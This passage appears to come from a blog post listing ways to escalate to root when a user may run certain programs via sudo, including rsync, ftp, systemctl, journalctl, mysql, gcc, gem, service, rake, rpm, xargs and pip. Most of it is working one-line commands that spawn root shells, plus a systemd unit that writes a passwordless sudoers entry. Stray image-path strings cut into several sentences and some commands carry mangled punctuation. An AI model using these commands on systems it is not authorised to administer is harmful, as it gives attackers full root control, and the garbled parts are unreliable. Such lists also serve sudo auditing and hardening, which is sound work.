$cat > /tmp/somefile << EOF

> cp /bin/sh /tmp/sh_root

> chmod a+sx /tmp/sh_root


$ sudo rsync  -e ‘sh /tmp/somefile’ /dev/null 2>/dev/null

$ /tmp/sh_root

# id

uid=0(root) gid=0(root) groups=0(root)

ftp,sftp – built in command execution.

user@host:~$ sudo ftp

ftp> !id

uid=0(root) gid=0(root) groups=0(root)


links, lynx, elinks command-line browsers – built in command execution and editing.

systemctl  systemd system and service manager – with EDIT option you can override a service startup and run commands as root

if “sudo systemctl edit XYZ.service” is granted to user, then user can override existing service configuration and create malicious systemd service/unit.

As systemd runs commands as root (if no other user is specified) it should be enough to make a systemd unit with following contents to elevate privileges:


Description=Malicious unit


ExecStartPre=-/usr/bin/touch /etc/sudoers.d/mycustomsudofile

ExecStartPre=-/usr/bin/chown myusername /etc/sudoers.d/mycustomsudofile

ExecStartPre=/usr/bin/chmod 640 /etc/sudoers.d/mycustomsudofile

ExecStart=/usr/bin/echo “myusername ALL=(root) NOPASSWD:ALL ” > /etc/sudoers.d/mycustomsudofileAfter that start the service with  the systemctl start and use sudo.

journalctl: if journalctl is executed as root, then getting a root shell works simply by typing !/bin/sh

mysql: even though it is incredibly rare to but if someone has the right to run MySql as root, then they can spawn root shell like this.

$ sudo mysql -e ‘\! /bin/bash’

or when you are in the shell, type in “\! /bin/bash”

This is very easy if you are allowed to connect to mysql socket as root.gcc: gcc is a C compiler, and is perhaps installed by default due to dependencies. If you are allowed to run gcc as root via sudo, you can spawn a root shell too.

$ sudo gcc -wrapper /bin/sh,-s .

gem: the ruby package manager can only be used to spawn a bash shell shell when the gem ‘rdoc’ is installed (it is installed by default on our machines)

$ sudo gem open -e “/bin/sh -c /bin/sh” rdoc

service: path traversal to privesc

$ sudo service ../../bin/sh

rake: whilst not known by all rake is amake-like build utility for ruby, and is installed by puppet on all of our machines. it can be used to spawn a root shell too.

$ sudo rake -p ‘`/bin/sh 1>&0`’

rpm: use lua to spawn a bash shell – or install a malicious package which contains your custom /etc/sudoers or similar.

$ sudo rpm –eval ‘%{lua:os.execute(“/bin/sh”)}’

xargs: with xargs privilege escalation is very simple

$ sudo xargs -a /dev/null sh

pip python package installer – privileges can be easily escalated using specially crafted scripts.

TF=$(mktemp -d)
echo “import os; os.execl(‘/bin/sh’, ‘sh’, ‘-c’, ‘sh <$(tty)>$(tty) 2>$(tty)’)” > $TF/
sudo pip install $TF

.. to becontinued

If you found this useful, say thanks, click on some banners or donate, I can always use some beer money.